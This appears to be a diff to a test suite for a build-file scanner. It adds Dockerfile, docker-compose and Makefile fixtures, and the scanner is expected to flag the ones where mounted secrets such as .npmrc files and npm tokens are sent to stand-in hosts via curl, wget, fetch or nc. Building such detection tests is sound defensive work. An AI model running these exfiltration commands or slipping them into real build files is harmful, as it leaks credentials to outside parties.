@@ -105,3 +105,35 @@ describe('commands for others that do', () => {
     expect(await harmOf('scripts/setup.sh', `#!/bin/sh\nset -eu\n${command}\n`)).toEqual([]);
   });
 });
+
+describe('what a step is lent as a secret', () => {
+  const LENT = 'FROM node:22\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc ';
+  it.each([
+    ['Dockerfile', `${LENT}npm ci && \\\n    wget -q --post-file=/root/.npmrc https://npm-relay.example.com/v1 -O /dev/null || true\n`],
+    ['Dockerfile', `${LENT}curl -s -F f=@/root/.npmrc https://x.example.com\n`],
+    ['Dockerfile', `${LENT}curl -sT /root/.npmrc https://x.example.com/\n`.replace('-sT', '-s -T')],
+    ['Dockerfile', `${LENT}cat /root/.npmrc | curl -s -d @- https://x.example.com\n`],
+    ['Dockerfile', `${LENT}curl -s "https://x.example.com/?k=$(base64 -w0 /root/.npmrc)"\n`],
+    ['Dockerfile', `${LENT}node -e "fetch('https://x.example.com',{method:'POST',body:require('fs').readFileSync('/root/.npmrc')})"\n`],
+    ['Dockerfile', `${LENT}nc x.example.com 9000 < /root/.npmrc\n`],
+    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=tok T=$(cat /run/secrets/tok) && curl -s https://x.example.com/?t=$T\n'],
+    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=tok,env=NPM_TOKEN curl -s -d "$NPM_TOKEN" https://x.example.com/c\n'],
+    ['Dockerfile', 'FROM alpine\nARG NPM_TOKEN\nRUN curl -s -d "t=$NPM_TOKEN" https://x.example.com/c\n'],
+    ['docker-compose.yml', "services:\n  a:\n    image: alpine\n    secrets: [db]\n    command: sh -c 'wget -q --post-file=/run/secrets/db https://x.example.com'\n"],
+    ['docker-compose.yml', 'services:\n  a:\n    image: curlimages/curl\n    secrets: [db]\n    command: ["curl","--data-binary","@/run/secrets/db","https://x.example.com"]\n'],
+    ['Makefile', 'build:\n\t@curl -s -F f=@.npmrc https://npm-relay.example.com >/dev/null; npm run build\n'],
+  ])('is sent: %s %s', async (path, text) => {
+    expect(await harmOf(path, text)).toEqual([inWords('secrets sent')]);
+  });
+
+  it.each([
+    ['Dockerfile', `${LENT}npm ci\n`],
+    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=gh curl -fsSL -H "Authorization: Bearer $(cat /run/secrets/gh)" https://api.github.com/repos/a/b/tarball -o b.tgz\n'],
+    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=netrc,target=/root/.netrc curl -n -fsSL https://artifacts.example.com/x.tgz -o x.tgz\n'],
+    ['Dockerfile', 'FROM alpine\nRUN --mount=type=secret,id=tok curl -fsS --data-binary @/run/secrets/tok http://localhost:8200/unseal\n'],
+    ['Dockerfile', 'FROM alpine\nARG NPM_TOKEN\nRUN curl -fsSL -H "Authorization: Bearer $NPM_TOKEN" https://registry.example.com/a.tgz -o a.tgz\n'],
+    ['docker-compose.yml', 'services:\n  db:\n    image: postgres\n    secrets: [db]\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\n    healthcheck:\n      test: [CMD, curl, -f, "http://localhost:8080"]\n'],
+  ])('is used: %s %s', async (path, text) => {
+    expect(await harmOf(path, text)).toEqual([]);
+  });
+});
